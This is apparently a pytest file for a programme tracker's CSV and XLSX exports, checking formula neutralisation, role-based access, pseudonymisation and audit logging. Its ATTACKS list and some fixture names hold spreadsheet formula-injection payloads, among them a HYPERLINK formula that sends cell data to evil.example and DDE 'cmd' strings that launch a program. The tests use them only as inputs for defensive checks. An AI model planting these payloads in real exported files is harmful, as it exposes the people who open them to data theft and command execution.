"""Exports: the writers, what each role may take, the rows, the audit line and the command."""

from __future__ import annotations

import csv
import io
import random
import re
import zipfile
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from flask_babel import force_locale
from sqlalchemy import select

from tracker import audit, indicators
from tracker.auditlog import sentences
from tracker.columns import PARTICIPANTS, TABLES
from tracker.exports import services
from tracker.extensions import db
from tracker.models import (
    ActivityKind,
    AuditEvent,
    Participant,
    PartnerKind,
    PlacementKind,
    Role,
)
from tracker.placements.services import record_follow_up, record_placement
from tracker.reports import spreadsheets
from tracker.reports.spreadsheets import neutralise, restore, write_csv, write_xlsx
from tracker.seed import SEED_DIR
from tracker.trainings.services import complete, enrol

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-1+2",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def parse_csv(data: bytes, delimiter: str = ";") -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))


def read_xlsx(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


# --- The writers (pure) ------------------------------------------------------------


def test_csv_neutralises_formulas_but_keeps_numbers_and_phones_readable():
    rows = [[attack, "+212 600 11 22 33", -5, Decimal("-12.50"), "-12.5"] for attack in ATTACKS]
    data = write_csv(["text", "phone", "n", "income", "textnum"], rows, phone_columns={1})
    parsed = parse_csv(data)
    assert parsed[0] == ["text", "phone", "n", "income", "textnum"]
    for attack, row in zip(ATTACKS, parsed[1:], strict=True):
        assert row[0].startswith("'")
        # a part after a separator is neutralised too (see the next tests)
        assert row[0] == "'" + attack or "," in attack or "\t" in attack or "\r" in attack
        assert restore(row[0]) == attack
        assert row[1:] == ["+212 600 11 22 33", "-5", "-12.50", "-12.5"]


def test_phone_exemption_is_per_column_and_only_for_plain_numbers():
    assert neutralise("+212 600 11 22 33", phone=True) == "+212 600 11 22 33"
    assert neutralise("+212 600 11 22 33") == "'+212 600 11 22 33"
    assert neutralise("+212 600 =1+1", phone=True) == "'+212 600 =1+1"
    assert neutralise("+1-2", phone=True) == "'+1-2"
    assert neutralise("0600112233", phone=True) == "0600112233"
    assert neutralise("Awa") == "Awa"
    assert neutralise("") == ""


def test_neutralise_is_undone_exactly_by_restore():
    samples = [*ATTACKS, "'", "''", "'=x", "'abc", "N'Diaye", "-", "+", "-5", "+212 1", "a=b"]
    rng = random.Random(7)
    alphabet = "=+-@'\t\r a1#"
    samples += ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 5))) for _ in range(500)]
    for text in samples:
        for phone in (False, True):
            escaped = neutralise(text, phone=phone)
            assert restore(escaped) == text
            if escaped[:1] in spreadsheets.FORMULA_TRIGGERS:
                # left as written only when no formula can come of it
                assert re.fullmatch(r"[+-]?\d+([.,]\d+)?|\+?[0-9 ]+", escaped)
    # a hand-typed apostrophe before ordinary text is kept
    assert restore("'hello") == "'hello"


def test_csv_options_delimiter_quoting_hxl_and_streaming():
    rows = ([f"P-{i:04d}", "Rabat, Salé", i] for i in range(1200))
    chunks = list(
        spreadsheets.csv_chunks(
            ["code", "city", "n"],
            rows,
            hxl=["#beneficiary+code", "#loc+name", "#x"],
            delimiter=",",
            batch=500,
        )
    )
    assert len(chunks) == 3, "streamed in batches, not built whole"
    parsed = parse_csv(b"".join(chunks), ",")
    assert parsed[1] == ["#beneficiary+code", "#loc+name", "#x"]
    assert parsed[2] == ["P-0000", "Rabat, Salé", "0"]
    assert len(parsed) == 1202
    quoted = write_csv(["a", "b"], [["x", 1]], quote_all=True, bom=False)
    assert quoted == b'"a";"b"\r\n"x";"1"\r\n'
    with pytest.raises(ValueError):
        write_csv(["a"], [], delimiter="|")


def test_xlsx_cells_are_inert_strings_with_the_text_unchanged():
    rows = [
        [attack, "+212 600 11 22 33", -5, Decimal("2150.5"), "2015-03-17", "1985"]
        for attack in [*ATTACKS, "#N/A"]
    ]
    header = ["text", "phone", "n", "income", "day", "year"]
    data = write_xlsx(header, rows, hxl=["#a", "#b", "#c", "#d", "#e", "#f"], date_columns={4, 5})
    assert "<f>" not in sheet_xml(data) and "<f " not in sheet_xml(data)
    sheet = read_xlsx(data)
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == tuple(header)
    assert values[1] == ("#a", "#b", "#c", "#d", "#e", "#f")
    for attack, row in zip([*ATTACKS, "#N/A"], sheet.iter_rows(min_row=3), strict=True):
        text, phone, number, income, day, year = row
        assert (text.value, text.data_type) == (
            attack.replace("\r", "\n"),
            "s",
        )  # XML reads CR as LF
        assert (phone.value, phone.data_type) == ("+212 600 11 22 33", "s")
        assert (number.value, number.data_type) == (-5, "n")
        assert income.value == 2150.5
        assert day.value.date() == date(2015, 3, 17) and day.number_format == "yyyy-mm-dd"
        assert (year.value, year.data_type) == ("1985", "s")
    assert sheet.freeze_panes == "A3"
    assert sheet["A1"].font.b
    assert sheet.column_dimensions["A"].width > len("text")


def test_xlsx_drops_characters_a_workbook_cannot_hold():
    sheet = read_xlsx(write_xlsx(["note"], [["a\x0bb\x00c"]]))
    assert sheet["A2"].value == "abc"
    assert sheet.auto_filter.ref == "A1:A1"


# --- The rows of the reference programme ----------------------------------------------


def seed_rows(name: str) -> list[list[str]]:
    with (SEED_DIR / name).open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def test_seed_exports_give_back_the_seed_files(seeded):
    for kind, table in TABLES.items():
        export = services.record_export(kind, user=None)
        data = b"".join(services.render_csv(export, delimiter=","))
        exported = parse_csv(data, ",")
        if kind == "partners":
            # the seed file has the first five columns, and where each name comes from
            original = [row[:5] for row in seed_rows("partners.csv")]
            exported = [row[:5] for row in exported]
            assert all(not any(row[5:]) for row in parse_csv(data, ",")[1:]), "no contacts"
        else:
            original = seed_rows(table.seed_file)
        assert exported[0] == original[0]
        assert export.count == len(original) - 1
        assert sorted(exported[1:]) == sorted(original[1:]), kind

    participants = services.record_export("participants", user=None, project=seeded)
    assert participants.count == 154 and len(list(participants.rows)) == 154
    enrolments = services.record_export("enrolments", user=None)
    names = enrolments.header
    trained = {
        row[names.index("participant_code")]
        for row in enrolments.rows
        if row[names.index("status")] == "completed"
        and "2014-06-01" <= row[names.index("completed_on")] <= "2016-12-31"
    }
    assert len(trained) == 135

    figures = services.indicator_export(
        [seeded], seeded.start_date, seeded.end_date, suppress_small=False, threshold=5
    )
    header = figures.header
    rows = [dict(zip(header, row, strict=True)) for row in figures.rows]
    headline = {r["indicator"]: r["value"] for r in rows if r["dimension"] is None}
    assert headline["trained"] == 135
    assert headline["placed"] == 41
    assert headline["institutions_strengthened"] == 11
    assert headline["placement_rate"] == Decimal("0.3037")
    scope = indicators.Scope((seeded.id,), seeded.start_date, seeded.end_date)
    for key, dimension in (("trained", "nationality"), ("placed", "placement_kind")):
        expected = dict(indicators.disaggregate(key, dimension, scope))
        got = {
            r["category"]: r["value"]
            for r in rows
            if r["indicator"] == key and r["dimension"] == dimension
        }
        assert got == expected

    hidden = services.indicator_export(
        [seeded], seeded.start_date, seeded.end_date, suppress_small=True, threshold=5
    )
    hidden_rows = [dict(zip(header, row, strict=True)) for row in hidden.rows]
    person_cells = [
        r["value"] for r in hidden_rows if r["dimension"] in indicators.PERSON_DIMENSIONS
    ]
    assert "< 5" in person_cells
    assert not [v for v in person_cells if isinstance(v, int) and 0 < v < 5]
    assert {r["indicator"]: r["value"] for r in hidden_rows if r["dimension"] is None} == headline


def test_viewer_gets_pseudonymous_exports_only(seeded, client, login, make_user):
    viewer = make_user(Role.VIEWER, [seeded], email="viewer@example.org")
    login(viewer)
    page = client.get("/exports/")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert 'name="pseudonymous" value="y"' in html and 'type="checkbox"' in html  # hxl only
    assert 'id="pseudonymous"' not in html, "the named export is not offered"

    for kind in services.KINDS:
        for fmt in services.FORMATS:
            assert client.get(f"/exports/{kind}.{fmt}").status_code == 403
            assert client.get(f"/exports/{kind}.{fmt}?pseudonymous=0").status_code == 403

    response = client.get("/exports/participants.csv?pseudonymous=y&sep=comma")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    rows = parse_csv(response.data, ",")
    assert len(rows) == 155
    assert rows[0] == [c.name for c in PARTICIPANTS.visible(pseudonymous=True)]
    people = seed_rows("participants.csv")
    header = people[0]
    for person in people[1:]:
        record = dict(zip(header, person, strict=True))
        for name in ("given_name", "family_name", "phone", "email", "date_of_birth"):
            if record[name]:
                assert record[name] not in text, name
    assert "+212" not in text and "@" not in text

    for kind in ("placements", "followups"):
        rows = parse_csv(client.get(f"/exports/{kind}.csv?pseudonymous=1&sep=comma").data, ",")
        assert "business_name" not in rows[0] and "note" not in rows[0]
    workbook = client.get("/exports/participants.xlsx?pseudonymous=on")
    assert workbook.status_code == 200
    sheet = read_xlsx(workbook.data)
    assert [c.value for c in sheet[1]] == rows_header_pseudonymous()
    assert sheet.max_row == 155


def rows_header_pseudonymous() -> list[str]:
    return [c.name for c in PARTICIPANTS.visible(pseudonymous=True)]


# --- Scope, roles, responses ----------------------------------------------------------


@pytest.fixture
def two_projects(make_project, make_participant, make_course, make_partner, make_activity):
    """Project A with one person at every stage; project B with one person."""
    a = make_project("PA", start=date(2014, 6, 1), end=date(2016, 12, 31))
    b = make_project("PB")
    employer = make_partner("Atlas Textile", kind=PartnerKind.EMPLOYER)
    awa = make_participant(
        a,
        code="PA-0001",
        given_name="Awa",
        family_name="Kouyaté",
        phone="+212 600 11 22 33",
        email="awa@example.org",
        date_of_birth=date(1990, 5, 4),
        nationality="SEN",
    )
    awa.sensitive_notes = "SECRET-NOTE"
    course = make_course(a)
    enrolment = enrol(awa, course, on=date(2015, 1, 20))
    complete(enrolment, on=date(2015, 5, 31), attendance_pct=90, certificate=True)
    placement = record_placement(
        awa,
        kind=PlacementKind.EMPLOYMENT,
        employer=employer,
        sector="Textile",
        start_date=date(2015, 7, 1),
        monthly_income=Decimal("2800.00"),
    )
    record_follow_up(
        placement,
        months_after=6,
        followed_on=date(2016, 1, 2),
        still_active=True,
        note="Va bien",
    )
    make_activity(a, ActivityKind.CAPACITY_BUILDING, date(2015, 6, 1), [make_partner("OFPPT")])
    make_participant(b, code="PB-0001", given_name="Binta", family_name="Sow")
    db.session.commit()
    return a, b


def test_officer_of_another_project_gets_none_of_its_rows(two_projects, client, login, make_user):
    a, b = two_projects
    login(make_user(Role.OFFICER, [b], email="officer-b@example.org"))
    for kind in services.RECORD_KINDS:
        response = client.get(f"/exports/{kind}.csv?sep=comma")
        assert response.status_code == 200
        text = response.get_data(as_text=True)
        assert "PA" not in text.replace("PARTICIPANT", ""), kind
    rows = parse_csv(client.get("/exports/participants.csv?sep=comma").data, ",")
    assert [r[0] for r in rows[1:]] == ["PB-0001"]
    assert rows[1][1] == "Binta", "an officer gets names"
    # project A is not hers: as if it did not exist
    assert client.get(f"/exports/participants.csv?project={a.id}").status_code == 404
    assert client.get(f"/exports/indicators.csv?project={a.id}").status_code == 404
    figures = parse_csv(client.get("/exports/indicators.csv?sep=comma").data, ",")
    trained = [r for r in figures if r[3] == "trained" and r[5] == ""]
    assert trained[0][-1] == "0"


def test_manager_export_of_one_project(two_projects, client, login, make_user):
    a, b = two_projects
    manager = make_user(Role.MANAGER, [a, b], email="manager@example.org")
    login(manager)
    response = client.get(f"/exports/participants.csv?project={a.id}&hxl=y")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    today = date.today().isoformat()
    assert response.headers["Content-Disposition"] == (
        f"attachment; filename=participants-PA-{today}.csv"
    )
    assert response.headers["Cache-Control"] == "no-store"
    rows = parse_csv(response.data)
    assert rows[0] == PARTICIPANTS.names
    assert rows[1] == [c.hxl for c in PARTICIPANTS.columns]
    assert len(rows) == 3
    awa = dict(zip(rows[0], rows[2], strict=True))
    assert awa["phone"] == "+212 600 11 22 33" and awa["given_name"] == "Awa"
    assert awa["consent_given"] == "yes" and awa["date_of_birth"] == "1990-05-04"
    assert "SECRET-NOTE" not in response.get_data(as_text=True)

    placements = parse_csv(client.get(f"/exports/placements.csv?project={a.id}").data)
    placement = dict(zip(placements[0], placements[1], strict=True))
    assert placement["employer"] == "Atlas Textile" and placement["monthly_income"] == "2800"

    pseudo = client.get(f"/exports/participants.xlsx?project={a.id}&pseudonymous=y")
    assert pseudo.mimetype == spreadsheets.XLSX_MIMETYPE
    assert f"participants-pseudonymous-PA-{today}.xlsx" in pseudo.headers["Content-Disposition"]
    sheet = read_xlsx(pseudo.data)
    assert [c.value for c in sheet[1]] == rows_header_pseudonymous()
    assert sheet["A2"].value == "PA-0001"

    everything = parse_csv(client.get("/exports/participants.csv").data)
    assert sorted(r[0] for r in everything[1:]) == ["PA-0001", "PB-0001"]
    assert "all-projects" in client.get("/exports/activities.csv").headers["Content-Disposition"]


def test_formula_in_a_name_is_neutralised_end_to_end(
    make_project, make_participant, client, login, make_user
):
    project = make_project("PA")
    make_participant(
        project,
        code="PA-0001",
        given_name='=HYPERLINK("http://x")',
        family_name="@SUM(1)",
        phone="+212 600 11 22 33",
        city="-2+3",
    )
    login(make_user(Role.ADMIN, email="admin@example.org"))
    rows = parse_csv(client.get("/exports/participants.csv").data)
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["given_name"] == '\'=HYPERLINK("http://x")'
    assert record["family_name"] == "'@SUM(1)"
    assert record["city"] == "'-2+3"
    assert record["phone"] == "+212 600 11 22 33"
    workbook = client.get("/exports/participants.xlsx").data
    assert "<f>" not in sheet_xml(workbook)
    cell = read_xlsx(workbook)["B2"]
    assert (cell.value, cell.data_type) == ('=HYPERLINK("http://x")', "s")


def test_every_export_is_audited(two_projects, client, login, make_user):
    a, _b = two_projects
    officer = make_user(Role.OFFICER, [a], email="officer-a@example.org")
    login(officer)
    assert client.get(f"/exports/enrolments.xlsx?project={a.id}&pseudonymous=y").status_code == 200
    assert client.get("/exports/indicators.csv?start=2015-01-01&end=2015-12-31").status_code == 200
    events = db.session.scalars(
        select(AuditEvent).where(AuditEvent.action == "export").order_by(AuditEvent.id)
    ).all()
    assert [(e.entity, e.actor_label, e.actor_id) for e in events] == [
        ("enrolments", officer.email, officer.id),
        ("indicators", officer.email, officer.id),
    ]
    awa = db.session.scalar(select(Participant).where(Participant.code == "PA-0001"))
    assert events[0].changes == {
        "format": "xlsx",
        "project": "PA",
        "pseudonymous": True,
        "hxl": False,
        "rows": 1,
        "participant_ranges": [[awa.id, awa.id]],
    }
    assert events[1].changes["from"] == "2015-01-01" and events[1].changes["to"] == "2015-12-31"
    assert events[1].changes["pseudonymous"] is False


def test_bad_options_are_shown_next_to_the_field(two_projects, client, login, make_user):
    a, _b = two_projects
    login(make_user(Role.MANAGER, [a], email="manager@example.org"))
    response = client.get("/exports/indicators.csv?start=2016-01-01&end=2015-01-01")
    assert response.status_code == 400
    html = response.get_data(as_text=True)
    assert re.search(r'id="indicator-end-error">[^<]+</p>', html)
    assert 'aria-invalid="true"' in html
    response = client.get("/exports/participants.csv?sep=pipe")
    assert response.status_code == 400
    assert 'id="sep-error"' in response.get_data(as_text=True)
    response = client.get("/exports/indicators.csv?start=2015-13-45")
    assert response.status_code == 400
    assert 'id="indicator-start-error"' in response.get_data(as_text=True)
    assert client.get("/exports/unknown.csv").status_code == 404
    assert client.get("/exports/participants.pdf").status_code == 404
    assert client.get("/exports/participants.csv?project=999999").status_code == 404
    assert not db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export")).all()


def test_index_offers_named_exports_to_editors_only(two_projects, client, login, make_user):
    a, _b = two_projects
    assert client.get("/exports/").status_code == 302  # sign in first
    login(make_user(Role.OFFICER, [a], email="officer-a@example.org"))
    html = client.get("/exports/").get_data(as_text=True)
    assert 'id="pseudonymous"' in html and 'name="pseudonymous" value="y"' not in html
    for kind in services.KINDS:
        assert f'formaction="/exports/{kind}.csv"' in html
        assert f'formaction="/exports/{kind}.xlsx"' in html
    assert "PA – Project PA" in html
    assert 'value="2014-06-01"' in html, "the indicator period defaults to the projects'"


def test_indicator_tables_hide_small_cells_when_pseudonymous(
    two_projects, client, login, make_user
):
    a, _b = two_projects
    login(make_user(Role.ADMIN, email="admin@example.org"))
    exact = parse_csv(client.get(f"/exports/indicators.csv?project={a.id}&sep=comma").data, ",")
    hidden = parse_csv(
        client.get(f"/exports/indicators.csv?project={a.id}&sep=comma&pseudonymous=y").data, ","
    )
    header = exact[0]
    value, dimension = header.index("value"), header.index("dimension")
    assert len(exact) == len(hidden)
    for plain, safe in zip(exact[1:], hidden[1:], strict=True):
        if plain[dimension] in indicators.PERSON_DIMENSIONS and plain[value] == "1":
            assert safe[value] == "< 5"
        elif plain[dimension] not in indicators.PERSON_DIMENSIONS:
            assert safe[value] == plain[value]
    assert exact[[r[3] for r in exact].index("trained")][:4] == [
        "PA",
        "2014-06-01",
        "2016-12-31",
        "trained",
    ]


# --- The command -------------------------------------------------------------------------


def test_export_command_writes_the_file(two_projects, runner, tmp_path):
    tmp_path = tmp_path / "out"
    tmp_path.mkdir()
    out = tmp_path / "participants.csv"
    result = runner.invoke(
        args=[
            "export",
            "participants",
            "--project",
            "PA",
            "--hxl",
            "--delimiter",
            "comma",
            "--out",
            str(out),
        ]
    )
    assert result.exit_code == 0, result.output
    assert "Wrote" in result.output and "1 rows" in result.output
    rows = parse_csv(out.read_bytes(), ",")
    assert rows[0] == PARTICIPANTS.names and rows[1][0] == "#beneficiary+code"
    assert [r[0] for r in rows[2:]] == ["PA-0001"]
    assert out.stat().st_mode & 0o077 == 0, "personal data: readable by its owner only"

    xlsx = tmp_path / "followups.xlsx"
    result = runner.invoke(
        args=["export", "followups", "--format", "xlsx", "--pseudonymous", "--out", str(xlsx)]
    )
    assert result.exit_code == 0, result.output
    sheet = read_xlsx(xlsx.read_bytes())
    assert [c.value for c in sheet[1]] == [
        c.name for c in TABLES["followups"].visible(pseudonymous=True)
    ]
    assert sheet.max_row == 2

    figures = tmp_path / "indicators.csv"
    result = runner.invoke(
        args=[
            "export",
            "indicators",
            "--from",
            "2015-01-01",
            "--to",
            "2015-12-31",
            "--out",
            str(figures),
        ]
    )
    assert result.exit_code == 0, result.output
    assert parse_csv(figures.read_bytes())[1][:3] == ["PA PB", "2015-01-01", "2015-12-31"]

    events = db.session.scalars(
        select(AuditEvent).where(AuditEvent.action == "export").order_by(AuditEvent.id)
    ).all()
    assert [(e.entity, e.actor_label) for e in events] == [
        ("participants", "cli:export"),
        ("followups", "cli:export"),
        ("indicators", "cli:export"),
    ]
    assert events[0].changes["rows"] == 1 and events[0].changes["project"] == "PA"
    assert events[1].changes["pseudonymous"] is True
    awa = db.session.scalar(select(Participant).where(Participant.code == "PA-0001"))
    # whom each file held: Awa alone (Binta, of project B, has no follow-up)
    assert events[0].changes["participant_ranges"] == [[awa.id, awa.id]]
    assert events[1].changes["participant_ranges"] == [[awa.id, awa.id]]
    assert "participant_ranges" not in events[2].changes, "figures name nobody"
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "followups.xlsx",
        "indicators.csv",
        "participants.csv",
    ], "no temporary file left behind"


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["participants", "--project", "NOPE"], "unknown project 'NOPE' (known: PA, PB)"),
        (["participants", "--from", "2015-01-01"], "--from and --to apply to the indicator"),
        (["indicators", "--from", "2015-13-01"], "--from: '2015-13-01' is not a date"),
        (["indicators", "--from", "2016-01-01", "--to", "2015-01-01"], "--to is before --from"),
    ],
)
def test_export_command_errors(two_projects, runner, tmp_path, args, message):
    out = tmp_path / "x.csv"
    result = runner.invoke(args=["export", *args, "--out", str(out)])
    assert result.exit_code == 1
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: ") and message in lines[0]
    assert not out.exists()


def test_export_command_usage_errors(two_projects, runner, tmp_path):
    missing = runner.invoke(
        args=["export", "participants", "--out", str(tmp_path / "no" / "x.csv")]
    )
    assert missing.exit_code == 1
    assert "Error: cannot write" in missing.output and "does not exist" in missing.output
    assert runner.invoke(args=["export", "people", "--out", "x.csv"]).exit_code == 2
    assert runner.invoke(args=["export", "participants", "--format", "pdf"]).exit_code == 2
    assert runner.invoke(args=["export", "participants"]).exit_code == 2  # --out required
    assert not db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export")).all()


def test_a_huge_xlsx_is_refused_on_the_web(app, two_projects, client, login, make_user):
    a, _b = two_projects
    login(make_user(Role.MANAGER, [a], email="manager@example.org"))
    app.config["EXPORT_XLSX_MAX_ROWS"] = 0
    response = client.get("/exports/participants.xlsx")
    assert response.status_code == 400
    assert 'class="flash error"' in response.get_data(as_text=True)
    assert client.get("/exports/participants.csv").status_code == 200, "CSV streams: no limit"
    events = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export")).all()
    assert [(e.entity, e.changes["format"]) for e in events] == [("participants", "csv")]


def test_birth_year_alone_and_withdrawn_consent(make_project, make_participant):
    project = make_project("PA")
    make_participant(project, code="PA-0001", birth_year=1985)
    make_participant(project, code="PA-0002", date_of_birth=date(1990, 5, 4))
    withdrawn = make_participant(project, code="PA-0003")
    withdrawn.consents[0].withdrawn_on = date(2015, 1, 1)
    db.session.flush()
    export = services.record_export("participants", user=None)
    rows = [dict(zip(export.header, row, strict=True)) for row in export.rows]
    # without a current consent to case management, nobody appears by name
    # (tracker.participants.consent; tests/test_consent.py)
    assert [(r["code"], r["date_of_birth"], r["consent_given"]) for r in rows] == [
        ("PA-0001", "1985", "yes"),
        ("PA-0002", "1990-05-04", "yes"),
    ]
    assert rows[0]["consent_date"] == "2014-12-01"
    pseudonymous = services.record_export("participants", user=None, pseudonymous=True)
    assert "date_of_birth" not in pseudonymous.header
    assert all("1985" not in map(str, row) for row in pseudonymous.rows)


@pytest.mark.parametrize("reader_delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_no_formula_appears_whatever_separator_the_file_is_opened_with(delimiter, reader_delimiter):
    """The probe's name, written with ";" and opened with ",", made a formula cell."""
    names = ["Injz,=HYPERLINK(A1),", "A;+1+1", "B\t@SUM(1)", "C, -2+3", "D,'=x", "E,-5"]
    data = write_csv(
        ["code", "given_name", "n"],
        [["PA-0001", name, 3] for name in names],
        delimiter=delimiter,
    )
    text = data.decode("utf-8-sig")
    # every field quoted (RFC 4180), numbers included
    assert text.splitlines()[0] == delimiter.join(['"code"', '"given_name"', '"n"'])
    for row in csv.reader(io.StringIO(text), delimiter=reader_delimiter):
        for cell in row:
            stripped = cell.strip().lstrip('"')
            assert (
                not stripped
                or stripped[0] not in "=+@\t"
                and not (stripped[0] == "-" and not re.fullmatch(r"-\d+", stripped))
            ), (delimiter, reader_delimiter, row)
    # and the file, read with its own separator, gives the names back exactly
    rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))[1:]
    assert [restore(row[1]) for row in rows] == names


def test_a_pseudonymous_export_reads_rare_attributes_as_other(
    client, login, make_project, make_participant, make_user
):
    """Six Senegalese women and two Burkinabe ones: a pseudonymous file must not let its
    reader count the two (the dashboard shows "< 5"); the named file keeps them."""
    project = make_project("PR", start=date(2014, 6, 1), end=date(2016, 12, 31))
    for n in range(8):
        make_participant(
            project,
            given_name=f"Person{n}",
            family_name="Rare" if n < 2 else f"Common{n}",
            nationality="BFA" if n < 2 else "SEN",
            region="Oriental",
        )
    db.session.commit()
    login(make_user(Role.MANAGER, [project], email="m-rare@example.org"))

    def column(path, name):
        response = client.get(path)
        rows = parse_csv(response.data)
        response.close()
        at = rows[0].index(name)
        return sorted(r[at] for r in rows[1:])

    pseudonymous = f"/exports/participants.csv?project={project.id}&pseudonymous=y"
    assert column(pseudonymous, "nationality") == ["SEN"] * 6 + ["other"] * 2
    assert column(pseudonymous, "region") == ["Oriental"] * 8  # common: kept
    assert column(pseudonymous, "sex") == ["F"] * 8
    assert column(f"/exports/participants.csv?project={project.id}", "nationality") == (
        ["BFA"] * 2 + ["SEN"] * 6
    )


@pytest.mark.parametrize("pseudonymous", [False, True], ids=["named", "pseudonymous"])
def test_an_exports_line_names_exactly_the_people_of_its_file(
    seeded, client, login, make_user, pseudonymous
):
    """After a lost laptop, the log says whom its file named: the people of its rows, no other.

    On the reference programme, whose people differ in their consents (a pseudonymous
    file holds only those who allow donor reporting); checked against the codes read
    back from each file.
    """
    manager = make_user(Role.MANAGER, [seeded], email="manager@example.org")
    login(manager)
    ids = dict(db.session.execute(select(Participant.code, Participant.id)).all())
    query = "&pseudonymous=y" if pseudonymous else ""
    for kind in services.PERSON_KINDS:
        response = client.get(f"/exports/{kind}.csv?project={seeded.id}{query}")
        assert response.status_code == 200, kind
        rows = parse_csv(response.data)
        column = rows[0].index("code" if kind == "participants" else "participant_code")
        held = {ids[row[column]] for row in rows[1:]}
        assert held, kind
        line = db.session.scalar(
            select(AuditEvent)
            .where(AuditEvent.action == "export", AuditEvent.entity == kind)
            .order_by(AuditEvent.id.desc())
        )
        ranges = line.changes["participant_ranges"]
        assert audit.ranges_size(ranges) == len(held), kind
        assert all(audit.in_ranges(ranges, [i]) for i in held), kind
        outside = set(ids.values()) - held
        assert not any(audit.in_ranges(ranges, [i]) for i in outside), kind
        # the audit log says how many, never lists them
        with force_locale("en"):
            [said] = sentences.describe([line], manager)
        assert f"People in the file: {len(held)}" in said.details, said.details


def test_the_line_names_the_people_of_the_rows_whatever_changes_meanwhile(
    two_projects, make_participant
):
    """The line and the file agree even when someone is registered while the file is made."""
    a, _b = two_projects
    awa = db.session.scalar(select(Participant).where(Participant.code == "PA-0001"))

    def line_of(export, rows=None):
        detail = services.audit_detail(
            export, fmt="csv", project_codes=["PA"], hxl=False, rows=rows
        )
        return detail["participant_ranges"]

    # written first, then audited (the command, a job): the people of the rows written
    written = services.record_export("participants", user=None, project=a)
    rows = list(written.rows)
    make_participant(a, code="PA-0002", given_name="Nadia", family_name="Alami")
    db.session.commit()
    assert [r[0] for r in rows] == ["PA-0001"]
    assert line_of(written, rows=len(rows)) == [[awa.id, awa.id]]

    # audited first, then streamed (a web download): nobody the line does not name
    streamed = services.record_export("participants", user=None, project=a)
    named = line_of(streamed)
    make_participant(a, code="PA-0003", given_name="Salma", family_name="Idrissi")
    db.session.commit()
    codes = [r[0] for r in streamed.rows]
    assert codes == ["PA-0001", "PA-0002"]
    assert audit.ranges_size(named) == 2 and not audit.in_ranges(
        named, [db.session.scalar(select(Participant.id).where(Participant.code == "PA-0003"))]
    )
